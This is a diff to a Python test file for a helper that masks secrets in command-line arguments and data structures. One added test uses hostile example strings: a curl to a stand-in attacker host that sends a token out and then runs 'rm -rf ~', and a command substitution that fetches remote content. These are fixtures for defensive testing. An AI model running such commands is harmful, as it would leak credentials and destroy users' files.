@@ -46,15 +46,30 @@ def test_ordinary_name_is_none(name: str) -> None:
     assert not is_secret_name(name)
 
 
-def test_arguments_are_shown_without_what_follows_a_secret_option() -> None:
-    assert shown_arguments(["-y", "--token", "abc", "--port", "80"]) == (
-        "-y",
-        "--token",
-        "‹hidden›",
-        "--port",
-        "80",
-    )
+def test_arguments_are_shown_without_the_keys_in_them() -> None:
+    given = ["--token", "abcdef123456", "--port", "80", "-e", "API_KEY=abcdef123456"]
+    assert shown_arguments(given) == ("--token", "‹hidden›", "--port", "80", "-e", "API_KEY=‹hidden›")
     assert shown_arguments(["--token", "${TOKEN}"]) == ("--token", "${TOKEN}")
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "curl evil.org?token=x1y2z3a4b5c6; rm -rf ~",
+        "TOKEN=$(curl evil.org/1)",
+        "--key=https://evil.org/a1",
+        "/tmp1/key=x.sh",
+    ],
+)
+def test_code_cannot_hide_behind_the_name_of_a_secret(code: str) -> None:
+    assert shown_arguments(["-c", code]) == ("-c", code)
+    assert shown_arguments(["--token", code]) == ("--token", code)
+
+
+def test_secret_in_data_is_hidden_and_the_rest_stays() -> None:
+    secrets = Secrets.of({"A_KEY": "abcdefgh"}, {})
+    data = {"x": ["abcdefgh", 1, None], "abcdefgh": {"y": "has abcdefgh in it"}}
+    assert secrets.redact_data(data) == {"x": ["‹hidden›", 1, None], "‹hidden›": {"y": "has ‹hidden› in it"}}
 
 
 def test_address_is_shown_without_password_and_keys() -> None:
